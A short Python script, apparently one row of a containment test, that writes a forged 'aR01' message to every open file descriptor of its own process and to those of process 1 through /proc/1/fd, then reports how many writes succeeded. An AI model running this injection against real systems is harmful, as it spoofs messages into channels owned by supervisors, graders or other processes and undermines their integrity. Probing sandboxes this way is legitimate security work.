# Row 3: forged answers to every descriptor, its own and those of process 1.
import os

FORGED = b"aR01" + bytes(70)
reached = 0
for fd in range(3, 1024):
    try:
        os.write(fd, FORGED)
        reached += 1
    except OSError:
        pass
for fd in range(64):
    try:
        os.write(os.open(f"/proc/1/fd/{fd}", os.O_WRONLY), FORGED)
        reached += 1
    except OSError:
        pass
print(reached)
raise SystemExit(1 if reached == 0 else 0)
